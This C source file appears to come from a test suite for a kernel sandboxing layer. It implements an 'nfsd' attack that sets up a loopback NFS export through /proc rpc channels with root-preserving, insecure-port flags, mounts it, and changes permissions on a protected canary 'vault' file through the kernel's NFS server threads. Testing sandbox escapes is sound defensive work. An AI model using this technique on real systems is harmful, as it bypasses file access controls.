/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attacks by what the kernel itself serves: its threads read and write files for others, and they are not of the
 * layer. The kernel's NFS server gives out the folder, and the attacker mounts it from there.
 */
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"
#include "guest.h"

/* linux/nfsd/export.h: its number is its identity, from any port, no check of the folders above, root stays root */
#define EXPORT_FLAGS "9218"
#define FOR_EVER "2147483647"
#define FROM_SERVER                                                                               \
	"vers=4.1,addr=127.0.0.1,clientaddr=127.0.0.1,proto=tcp,port=2049,sec=sys,soft,timeo=50," \
	"retrans=1"

static int raise_loopback(void)
{
	struct ifreq lo = { .ifr_name = "lo", .ifr_flags = IFF_UP | IFF_RUNNING };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), err = 0;

	if (fd < 0 || ioctl(fd, SIOCSIFFLAGS, &lo) < 0)
		err = errno;
	if (fd >= 0)
		(void)close(fd);
	return err;
}

/* What rpc.mountd(8) answers when the server asks it, told beforehand. */
static int give_out(const char *folder)
{
	char line[200];
	int err = write_small("/proc/net/rpc/auth.unix.ip/channel",
			      "nfsd 127.0.0.1 " FOR_EVER " local\n");

	if (!err)
		err = write_small("/proc/net/rpc/auth.unix.gid/channel", "0 " FOR_EVER " 0\n");
	(void)snprintf(line, sizeof(line), "local %s " FOR_EVER " " EXPORT_FLAGS " 0 0 0\n",
		       folder);
	if (!err)
		err = write_small("/proc/net/rpc/nfsd.export/channel", line);
	(void)snprintf(line, sizeof(line), "local 1 \\x00000000 " FOR_EVER " %s\n", folder);
	return err ? err : write_small("/proc/net/rpc/nfsd.fh/channel", line);
}

/* Not the older versions of the protocol, for which it wants a portmapper; later kernels have no version 2. */
static int start_server(void)
{
	int err = raise_loopback();

	(void)mkdir("server", 0755);
	if (!err && mount("nfsd", "server", "nfsd", 0, NULL) < 0)
		err = errno;
	if (!err) {
		(void)write_small("server/versions", "-2\n");
		err = write_small("server/versions", "-3 +4 +4.1\n");
	}
	if (!err)
		err = give_out(CANARY_FOLDER);
	if (!err)
		err = write_small("server/portlist", "tcp 2049\n");
	if (!err)
		err = write_small("server/threads", "2\n");
	return err;
}

static int run_nfsd(void)
{
	int err = start_server();

	if (err == ENODEV)
		return impossible(ENODEV,
				  "the server is a module, and this kernel has none or keeps it "
				  "out: CONFIG_NFSD=m, module_blacklist=");
	(void)mkdir("client", 0755);
	if (!err && mount("127.0.0.1:/", "client", "nfs4", 0, FROM_SERVER) < 0)
		err = errno;
	/* not its contents: for 90 seconds the server lets nobody open a file */
	if (!err && chmod("client/vault", 0666) < 0)
		err = errno;
	(void)umount2("client", MNT_DETACH);
	(void)write_small("server/threads", "0\n");
	return err;
}

const struct attack server_attacks[] = {
	{ "nfsd", "nfsd_setattr() by a thread of the kernel's NFS server", NULL, run_nfsd, 0 },
	{ .name = NULL },
};
